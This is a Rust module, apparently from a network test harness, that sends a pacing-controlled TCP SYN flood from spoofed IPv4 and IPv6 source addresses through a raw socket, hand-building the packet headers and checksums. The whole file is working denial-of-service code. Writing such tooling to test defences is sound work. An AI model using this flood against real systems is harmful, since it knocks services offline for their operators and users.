//! A SYN flood from invented addresses.

use std::{
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
    thread,
    time::{Duration, Instant},
};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::{
    host::Host,
    plan::{FLOOD4, FLOOD6},
};

/// IP protocol number of TCP.
const TCP: u8 = 6;
/// Protocol number by which a raw socket takes the whole packet, IP header included (raw(7)).
const IPPROTO_RAW: i32 = 255;
/// Packets between two looks at the clock.
const BATCH: u32 = 64;
/// Invented addresses; each further source port serves as many flows again.
const ADDRESSES: u32 = 1 << 17;

/// A flood to be sent with [`Self::from`].
#[derive(Clone, Copy, Debug)]
pub struct SynFlood {
    target: SocketAddr,
    count: u32,
    per_second: u32,
}

impl SynFlood {
    /// 1,000 SYNs to this vip at 100,000 a second, unless told otherwise.
    #[must_use]
    pub fn at(target: SocketAddr) -> Self {
        Self {
            target,
            count: 1_000,
            per_second: 100_000,
        }
    }

    /// Number of SYNs, each from an address and port that no other has.
    #[must_use]
    pub fn count(mut self, count: u32) -> Self {
        self.count = count;
        self
    }

    /// Most SYNs a second.
    #[must_use]
    pub fn per_second(mut self, count: u32) -> Self {
        self.per_second = count;
        self
    }

    /// Sends them all from this host; returns how long that took.
    pub fn from(self, host: &Host) -> Duration {
        host.inside(|| self.send())
    }

    fn send(self) -> Duration {
        let domain = Domain::for_address(self.target);
        let socket = Socket::new(domain, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))
            .unwrap_or_else(|error| panic!("cannot open a raw socket: {error}"));
        // The port of a raw socket's address means a protocol, and must be 0 here.
        let to = SockAddr::from(SocketAddr::new(self.target.ip(), 0));
        let start = Instant::now();
        for number in 0..self.count {
            if number.is_multiple_of(BATCH) {
                let due = Duration::from_secs(1) * number / self.per_second;
                thread::sleep(due.saturating_sub(start.elapsed()));
            }
            socket
                .send_to(&self.packet(number), &to)
                .unwrap_or_else(|error| panic!("cannot send SYN {number}: {error}"));
        }
        start.elapsed()
    }

    fn packet(self, number: u32) -> Vec<u8> {
        let source = number % ADDRESSES;
        let port = 1024 + u16::try_from(number / ADDRESSES).expect("fewer than 2^33 SYNs");
        match self.target.ip() {
            IpAddr::V4(target) => {
                let source = Ipv4Addr::from(u32::from(FLOOD4) + source);
                let tcp = self.syn(port, number, &[source.octets(), target.octets()].concat());
                // The kernel fills in length, identification and checksum (raw(7)).
                let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, TCP, 0, 0];
                packet.extend(source.octets());
                packet.extend(target.octets());
                packet.extend(tcp);
                packet
            }
            IpAddr::V6(target) => {
                let source = Ipv6Addr::from(u128::from(FLOOD6) + u128::from(source));
                let tcp = self.syn(port, number, &[source.octets(), target.octets()].concat());
                let length = u8::try_from(tcp.len()).expect("a SYN is short");
                let mut packet = vec![0x60, 0, 0, 0, 0, length, TCP, 64];
                packet.extend(source.octets());
                packet.extend(target.octets());
                packet.extend(tcp);
                packet
            }
        }
    }

    /// A TCP SYN with the option MSS 1460; `addresses` are the two of the pseudo header.
    fn syn(self, port: u16, sequence: u32, addresses: &[u8]) -> Vec<u8> {
        let mut tcp = Vec::with_capacity(24);
        tcp.extend(port.to_be_bytes());
        tcp.extend(self.target.port().to_be_bytes());
        tcp.extend(sequence.to_be_bytes());
        tcp.extend([0, 0, 0, 0]); // acknowledgement
        tcp.extend([0x60, 0x02]); // six words of header; SYN
        tcp.extend([0xff, 0xff]); // window
        tcp.extend([0, 0, 0, 0]); // checksum, urgent pointer
        tcp.extend([2, 4, 0x05, 0xb4]); // MSS 1460
        let pseudo = [addresses, &[0, TCP, 0, 24]].concat();
        let checksum = internet_checksum(&[&pseudo, &tcp]);
        tcp[16..18].copy_from_slice(&checksum.to_be_bytes());
        tcp
    }
}

/// RFC 1071, over parts of even length.
fn internet_checksum(parts: &[&[u8]]) -> u16 {
    let mut sum: u32 = parts
        .iter()
        .flat_map(|part| part.chunks_exact(2))
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).expect("folded to 16 bits just now")
}
